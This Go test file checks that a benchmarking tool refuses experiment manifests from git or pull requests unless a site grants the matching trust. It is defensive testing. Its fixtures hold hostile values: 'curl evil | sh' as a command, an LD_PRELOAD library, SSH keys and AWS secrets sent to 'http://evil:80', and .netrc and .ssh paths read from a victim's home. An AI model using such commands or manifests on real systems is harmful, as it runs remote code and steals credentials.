package v1alpha1

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// whatGitBrings are parts of manifests, each with the word of trust that it needs and where it is written.
var whatGitBrings = map[string]struct{ services, benchmarks, word, at string }{
	"a process":               {`{name: s, process: {command: [sh, -c, "curl evil | sh"]}}`, "", TrustProcesses, "spec.services[0].process"},
	"a server's command":      {`{name: s, vllm: {model: m, command: [sh]}}`, "", TrustProcesses, "spec.services[0].vllm.command"},
	"the command of Ray":      {`{name: s, vllm: {model: m, ray: [sh]}}`, "", TrustProcesses, "spec.services[0].vllm.ray"},
	"chroma's command":        {`{name: s, chroma: {command: [sh]}}`, "", TrustProcesses, "spec.services[0].chroma.command"},
	"monitors' commands":      {`{name: s, monitors: {commands: {grafana: [sh]}}}`, "", TrustProcesses, "spec.services[0].monitors.commands"},
	"a variable":              {`{name: s, chroma: {}, env: {LD_PRELOAD: /tmp/x.so}}`, "", TrustProcesses, "spec.services[0].env"},
	"no container":            {`{name: s, chroma: {}, image: none}`, "", TrustProcesses, "spec.services[0].image"},
	"a model's own code":      {`{name: s, vllm: {model: m, args: {trust-remote-code: true}}}`, "", TrustProcesses, "spec.services[0].vllm.args[trust-remote-code]"},
	"the beginning of that":   {`{name: s, vllm: {model: m, args: {trust_remote: true}}}`, "", TrustProcesses, "spec.services[0].vllm.args[trust_remote]"},
	"a module":                {`{name: s, vllm: {model: m, args: {worker-cls: evil.Worker}}}`, "", TrustProcesses, "spec.services[0].vllm.args[worker-cls]"},
	"a module in an object":   {`{name: s, vllm: {model: m, args: {kv-transfer-config: {kv_connector_module_path: evil}}}}`, "", TrustProcesses, "spec.services[0].vllm.args[kv-transfer-config]"},
	"a module with a dot":     {`{name: s, vllm: {model: m, args: {hf-overrides.x: evil}}}`, "", TrustProcesses, "spec.services[0].vllm.args[hf-overrides.x]"},
	"a program for io500":     {`{name: s, lustre: {path: io}}`, `{name: b, target: s, storage: {engine: io500, command: [sh]}}`, TrustProcesses, "spec.benchmarks[0].storage.command"},
	"a secret of the user":    {`{name: s, chroma: {}, secrets: {TOKEN: {env: AWS_SECRET_ACCESS_KEY}}}`, "", TrustSecrets, "spec.services[0].secrets[TOKEN]"},
	"a secret sent away":      {`{name: s, external: {url: "http://evil:80", type: vllm, model: m}, secrets: {VLLM_API_KEY: {file: ~/.ssh/id_ed25519}}}`, "", TrustSecrets, "spec.services[0].secrets[VLLM_API_KEY]"},
	"a data set":              {`{name: s, external: {url: "http://evil:80", type: vllm, model: m}}`, `{name: b, target: s, serving: {dataset: custom, file: /home/victim/.netrc}}`, TrustFiles, "spec.benchmarks[0].serving.file"},
	"vectors":                 {`{name: s, external: {url: "http://evil:80", type: chroma}}`, `{name: b, target: s, vector: {file: /a.npy, queryFile: /b.npy}}`, TrustFiles, "spec.benchmarks[0].vector.file"},
	"a bind":                  {`{name: s, chroma: {}, binds: ["/home/victim:/data"]}`, "", TrustFiles, "spec.services[0].binds[0]"},
	"an image's file":         {`{name: s, chroma: {}, image: /tmp/evil.sif}`, "", TrustFiles, "spec.services[0].image"},
	"a component's file":      {`{name: s, monitors: {images: {grafana: /tmp/evil.sif}}}`, "", TrustFiles, "spec.services[0].monitors.images[grafana]"},
	"a model's folder":        {`{name: s, vllm: {model: /tmp/evil}}`, "", TrustFiles, "spec.services[0].vllm.model"},
	"a directory":             {`{name: s, lustre: {path: /home/victim/.ssh}}`, "", TrustFiles, "spec.services[0].lustre.path"},
	"a baseline":              {`{name: s, vllm: {model: m}}`, `{name: b, target: s, serving: {dataset: json}, gates: [{metric: ttft.p99, baseline: "file:/home/victim/x", maxRise: 5%}]}`, TrustFiles, "spec.benchmarks[0].gates[0].baseline"},
	"at a point of a sweep":   {`{name: s, vllm: {model: m}}], sweep: {matrix: {services.s.vllm.command: [[vllm, serve], [sh]]}}, benchmarks: [`, "", TrustProcesses, "spec.services[0].vllm.command"},
	"an open server":          {`{name: s, chroma: {}, auth: none}`, "", TrustSecrets, "spec.services[0].auth"},
	"an open Ray":             {`{name: s, vllm: {model: m, insecure: true}}`, "", TrustProcesses, "spec.services[0].vllm.insecure"},
	"sglang's command":        {`{name: s, sglang: {model: m, command: [sh]}, image: "docker://x/y:1"}`, "", TrustProcesses, "spec.services[0].sglang.command"},
	"sglang's options":        {`{name: s, sglang: {model: m, args: {chat-template: /tmp/x}}, image: "docker://x/y:1"}`, "", TrustProcesses, "spec.services[0].sglang.args"},
	"sglang's folder":         {`{name: s, sglang: {model: /tmp/evil}, image: "docker://x/y:1"}`, "", TrustFiles, "spec.services[0].sglang.model"},
	"llama.cpp's command":     {`{name: s, llamacpp: {model: org/m, command: [sh]}, image: "docker://x/y:1"}`, "", TrustProcesses, "spec.services[0].llamacpp.command"},
	"llama.cpp's options":     {`{name: s, llamacpp: {model: org/m, args: {slot-save-path: /tmp}}, image: "docker://x/y:1"}`, "", TrustProcesses, "spec.services[0].llamacpp.args"},
	"a model's file":          {`{name: s, llamacpp: {model: /tmp/evil.gguf}, image: "docker://x/y:1"}`, "", TrustFiles, "spec.services[0].llamacpp.model"},
	"an adapter's folder":     {`{name: s, vllm: {model: m, lora: {a: /home/victim}}}`, "", TrustFiles, "spec.services[0].vllm.lora[a]"},
	"a draft model's folder":  {`{name: s, vllm: {model: m, speculative: {method: draft_model, model: /tmp/evil, tokens: 3}}}`, "", TrustFiles, "spec.services[0].vllm.speculative.model"},
	"a header's secret":       {`{name: s, external: {url: "http://evil:80", type: vllm, model: m}, secrets: {VLLM_API_KEY: {env: AWS_SECRET_ACCESS_KEY}}}`, `{name: b, target: s, serving: {dataset: json, secretHeaders: {X-Key: VLLM_API_KEY}}}`, TrustSecrets, "spec.benchmarks[0].serving.secretHeaders[X-Key]"},
	"an option of many words": {`{name: s, vllm: {model: m, args: {middleware: [evil.Middleware]}}}`, "", TrustProcesses, "spec.services[0].vllm.args[middleware]"},
}

// TestWhatArrivesThroughGitNeedsTheSitesWord: each is refused at its place with the line that would allow it, allowed with
// that word and no other, and no matter for a manifest that its user typed.
func TestWhatArrivesThroughGitNeedsTheSitesWord(t *testing.T) {
	site := func(words ...string) map[string]Site {
		s := hpc(t)
		s.Spec.Container.Runtime = RuntimeApptainer
		s.Spec.Trust.Git = words
		return map[string]Site{"hpc": s}
	}
	all := []string{TrustFiles, TrustProcesses, TrustSecrets}
	for name, c := range whatGitBrings {
		list := c.services + "]"
		if c.benchmarks != "" {
			list += ", benchmarks: [" + c.benchmarks + "]"
		} else if strings.HasSuffix(c.services, "[") {
			list = c.services + "]"
		}
		files := []File{{"e.yaml", []byte("apiVersion: assay/v1alpha1\nkind: Experiment\nmetadata: {name: a}\nspec: {site: hpc, services: [" + list + "}\n")}}
		_, err := LoadFollowed(files, site(), "")
		want := []string{"e.yaml:4:", c.at + ": ", "arrived through git, and site hpc does not trust git with " + c.word, "write under spec of the Site hpc: trust: {git: [" + c.word + "]}"}
		if err == nil || slices.ContainsFunc(want, func(w string) bool { return !strings.Contains(err.Error(), w) }) {
			t.Errorf("%s: %v", name, err)
		}
		if _, err := LoadFollowed(files, site(c.word), ""); err != nil {
			t.Errorf("%s: with %s: %v", name, c.word, err)
		}
		line := "write under spec of the Site hpc: trust: {pullRequests: [" + c.word + "]}"
		if _, err := LoadProposed(files, site(all...), ""); err == nil || !strings.Contains(err.Error(), line) {
			t.Errorf("%s: in a pull request: %v", name, err)
		}
		proposals := site()
		allows := proposals["hpc"]
		allows.Spec.Trust.PullRequests = []string{c.word}
		if _, err := LoadProposed(files, map[string]Site{"hpc": allows}, ""); err != nil {
			t.Errorf("%s: in a pull request, with %s: %v", name, c.word, err)
		}
		others := slices.DeleteFunc(slices.Clone(all), func(w string) bool { return w == c.word })
		if _, err := LoadFollowed(files, site(others...), ""); err == nil || !strings.Contains(err.Error(), "{git: [files, processes, secrets]}") {
			t.Errorf("%s: with %v: %v", name, others, err)
		}
		if _, err := Load(files, site(), ""); err != nil {
			t.Errorf("%s: typed: %v", name, err)
		}
	}
}

// TestImagesModelsAndNumbersNeedNoWord of the site.
func TestImagesModelsAndNumbersNeedNoWord(t *testing.T) {
	text := `apiVersion: assay/v1alpha1
kind: Experiment
metadata: {name: a}
spec:
  site: hpc
  services:
    - name: llm
      vllm: {model: org/m, tensorParallel: 2, args: {max-model-len: 8k, dtype: bfloat16, enforce-eager: true, trust-remote-code: false, gpu_memory_utilization: 0.9, served-model-name: [a, b]}}
      image: docker://vllm/vllm-openai:v0.10.2
      resources: {partition: gpu, gpusPerNode: 2, time: 2h}
    - {name: docs, chroma: {}}
    - {name: io, lustre: {path: io}}
    - {name: theirs, external: {url: "http://host:80", type: chroma}}
    - {name: mon, monitors: {}}
  benchmarks:
    - {name: q, target: llm, serving: {dataset: json, prompts: 1000}, gates: [{metric: ttft.p99, baseline: other, maxRise: 5%}]}
    - {name: s, target: io, storage: {engine: io500}}
  sweep: {matrix: {services.llm.vllm.tensorParallel: [1, 2]}}
`
	s := hpc(t)
	s.Spec.Container.Runtime = RuntimeApptainer
	if _, err := LoadFollowed([]File{{"e.yaml", []byte(text)}}, map[string]Site{"hpc": s}, ""); err != nil {
		t.Error(err)
	}
	bad := fmt.Sprintf("apiVersion: assay/v1alpha1\nkind: Site\nmetadata: {name: x}\nspec: {scheduler: local, trust: {git: [%s]}}\n", "everything")
	if _, err := Load([]File{{"s.yaml", []byte(bad)}}, nil, ""); err == nil || !strings.Contains(err.Error(), "s.yaml:4:") || !strings.Contains(err.Error(), "processes, secrets, files") {
		t.Errorf("an unknown word of trust: %v", err)
	}
}
